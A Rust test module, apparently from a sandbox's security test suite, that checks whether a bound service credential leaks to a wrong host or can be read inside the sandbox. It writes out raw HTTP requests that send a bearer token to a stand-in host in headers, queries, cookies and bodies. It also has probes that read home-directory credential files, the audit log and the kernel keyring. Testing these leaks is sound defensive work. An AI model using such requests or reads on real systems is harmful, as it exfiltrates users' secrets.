//! Credentials (INCIDENTS C).

use std::path::Path;

use crate::case::{Case, Seen, Stage, Trouble};
use crate::cases::network::{attempt, base_config};
use crate::cases::processes::grant_home;
use crate::probe::{add_decoy_key, drop_decoy_key};
use crate::world::{DECOY, SECRET, SENSITIVE};

pub(super) fn cases() -> Vec<Case> {
    let mut cases = vec![
        Case::attack(
            "C1-wrong-host",
            "get a credential swapped in for a host that it does not belong to",
            |stage| {
                let port = bound_credential(stage)?;
                swapped(
                    stage,
                    &[
                        request("forward", "a.wild.test", port),
                        request("connect", "a.wild.test", port),
                        request("direct", "a.wild.test", port),
                    ],
                )
            },
        ),
        Case::attack(
            "C1-wrong-host-by-header",
            "get it swapped in by naming the right host in the Host header only",
            |stage| {
                let port = bound_credential(stage)?;
                let bytes = format!(
                    "GET / HTTP/1.1\\r\\nHost: ok.test:{port}\\r\\nAuthorization: Bearer {{SERVICE_TOKEN}}\\r\\n\\r\\n"
                );
                let target = format!("a.wild.test:{port}");
                swapped(
                    stage,
                    &[
                        attempt("connect", &target, "secret=yes", &bytes),
                        attempt("direct", &target, "secret=yes", &bytes),
                    ],
                )
            },
        ),
        Case::attack(
            "C2-in-the-sandbox",
            "find the real credential in the environment of the sandbox",
            |stage| {
                bound_credential(stage)?;
                stage.probe("environment", &[SECRET])
            },
        ),
        Case::attack(
            "C3-query",
            "get it swapped in a query, a cookie or a body for another host",
            |stage| {
                let port = bound_credential(stage)?;
                let (host, target) = (
                    format!("a.wild.test:{port}"),
                    format!("http://a.wild.test:{port}"),
                );
                let query = format!(
                    "GET {target}/?key={{SERVICE_TOKEN}} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"
                );
                let cookie = format!(
                    "GET {target}/ HTTP/1.1\\r\\nHost: {host}\\r\\nCookie: a={{SERVICE_TOKEN}}\\r\\n\\r\\n"
                );
                // The length is longer than the body by what the credential is shorter than 200 bytes: the server takes what came.
                let body = format!(
                    "POST {target}/ HTTP/1.0\\r\\nHost: {host}\\r\\nContent-Length: 27\\r\\n\\r\\n{{SERVICE_TOKEN}}"
                );
                swapped(
                    stage,
                    &[&query, &cookie, &body]
                        .map(|bytes| attempt("forward", "-", "secret=yes", bytes)),
                )
            },
        ),
        Case::attack(
            "C3-echo",
            "read the real credential from an answer that repeats the request",
            |stage| {
                let port = bound_credential(stage)?;
                stage.own_network = true;
                let host = format!("ok.test:{port}");
                let wanted = &SECRET[..14];
                let bytes = format!(
                    "GET http://{host}/echo HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer {{SERVICE_TOKEN}}\\r\\n\\r\\n"
                );
                let attempts = attempt("forward", "-", wanted, &bytes);
                let args: Vec<&str> = attempts.iter().map(String::as_str).collect();
                stage.probe("http", &args)
            },
        ),
        Case::promise(
            "C0-right-host",
            "the credential is swapped in for the host that it belongs to",
            |stage| {
                let port = bound_credential(stage)?;
                swapped(stage, &[request("forward", "ok.test", port)])
            },
        ),
        Case::attack(
            "C4-environment",
            "read tokens of the caller's environment",
            |stage| {
                stage.world.tokens();
                stage.probe("environment", &[DECOY])
            },
        ),
        Case::attack(
            "C4-files",
            "read credential files of the home directory",
            |stage| {
                stage.world.sensitive_files()?;
                let paths: Vec<String> = SENSITIVE
                    .iter()
                    .map(|(_, path)| stage.world.home().join(path).to_string_lossy().into_owned())
                    .collect();
                let args: Vec<&str> = std::iter::once(DECOY)
                    .chain(paths.iter().map(String::as_str))
                    .collect();
                stage.probe("read-any", &args)
            },
        ),
    ];
    cases.extend(SENSITIVE.iter().map(|(name, path)| {
        let id: &'static str = Box::leak(format!("C4-granted-{name}").into_boxed_str());
        let title: &'static str =
            Box::leak(format!("read ~/{path} when the home directory is granted").into_boxed_str());
        Case::attack(id, title, move |stage| {
            stage.world.sensitive_files()?;
            stage.config = grant_home(stage);
            let path = stage.world.home().join(path).to_string_lossy().into_owned();
            stage.probe("read-any", &[DECOY, &path])
        })
    }));
    cases.push(Case::promise(
        "C0-granted-home",
        "other files of a granted home directory can be read",
        |stage| {
            stage.config = grant_home(stage);
            let path = stage
                .world
                .file("home/notes/plain.txt", DECOY)?
                .to_string_lossy()
                .into_owned();
            stage.probe("read-any", &[DECOY, &path])
        },
    ));
    cases.push(Case::attack(
        "C6-read-log",
        "read the audit log when the home directory is granted",
        |stage| {
            stage.config = grant_home(stage);
            // Owner-only, as the product makes its own.
            let log = stage
                .world
                .file("home/.local/state/ringfence/audit/earlier.jsonl", DECOY)?;
            let state = stage.world.home().join(".local/state/ringfence");
            for path in [&log, &state, &state.join("audit")] {
                private(path)?;
            }
            let directory = stage
                .world
                .home()
                .join(".local/state/ringfence")
                .to_string_lossy()
                .into_owned();
            stage.probe("read-any", &[DECOY, &directory])
        },
    ));
    cases.push(
        Case::promise(
            "C6-log-without-secrets",
            "the audit log holds no credential, sent or refused",
            |stage| {
                let port = bound_credential(stage)?;
                swapped(
                    stage,
                    &[
                        request("forward", "a.wild.test", port),
                        request("forward", "ok.test", port),
                    ],
                )?;
                let state = stage.world.home().join(".local/state");
                let text: String = crate::world::World::tree(&state)?.into_values().collect();
                let written = text.contains("a.wild.test");
                Ok(Seen {
                    achieved: written && !text.contains(SECRET),
                    detail: format!("{} bytes of logs, requests in them: {written}", text.len()),
                })
            },
        )
        .fence_only(),
    );
    cases.push(Case::attack(
        "C7-keyring",
        "read a key of the kernel keyring that all the user's sessions share",
        |stage| {
            let key = add_decoy_key(DECOY)
                .map_err(|error| Trouble::Missing(format!("a kernel keyring: {error}")))?;
            let seen = stage.probe("keyring", &[DECOY]);
            drop_decoy_key(key);
            seen
        },
    ));
    cases.push(Case::attack("C7-keyctl", "call keyctl", |stage| {
        stage.probe("syscall", &["keyctl"])
    }));
    cases.push(Case::attack(
        "C7-request-key",
        "call request_key, which starts a program on the host",
        |stage| stage.probe("syscall", &["request_key"]),
    ));
    cases
}

/// A credential bound to `ok.test`; the sandbox's variable is `SERVICE_TOKEN`. Without a fence that variable holds the real one.
fn bound_credential(stage: &mut Stage<'_>) -> Result<u16, Trouble> {
    let port = base_config(stage)?;
    stage.config.push_str(&format!(
        "[credentials.service]\nhosts = [\"ok.test:{port}\"]\nenv = \"SERVICE_TOKEN\"\nsource.env = \"REAL_TOKEN\"\n"
    ));
    stage.world.env.insert("REAL_TOKEN".into(), SECRET.into());
    if !stage.fenced() {
        stage
            .world
            .env
            .insert("SERVICE_TOKEN".into(), SECRET.into());
    }
    Ok(port)
}

fn request(way: &str, host: &str, port: u16) -> [String; 4] {
    let target = if way == "forward" {
        format!("http://{host}:{port}/")
    } else {
        "/".into()
    };
    let bytes = format!(
        "GET {target} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\nAuthorization: Bearer {{SERVICE_TOKEN}}\\r\\n\\r\\n"
    );
    attempt(way, &format!("{host}:{port}"), "secret=yes", &bytes)
}

/// The origin saw the real credential.
fn swapped(stage: &mut Stage<'_>, attempts: &[[String; 4]]) -> Result<Seen, Trouble> {
    stage.own_network = true;
    let args: Vec<&str> = attempts.iter().flatten().map(String::as_str).collect();
    let seen = stage.probe("http", &args)?;
    let reached = stage
        .world
        .network
        .as_ref()
        .and_then(|network| network.requests.find("secret=yes"));
    Ok(match reached {
        Some(request) => Seen {
            achieved: true,
            detail: request.lines().next().unwrap_or_default().to_owned(),
        },
        None => seen,
    })
}

fn private(path: &Path) -> std::io::Result<()> {
    use std::os::unix::fs::PermissionsExt;
    let mode = if path.is_dir() { 0o700 } else { 0o600 };
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode))
}
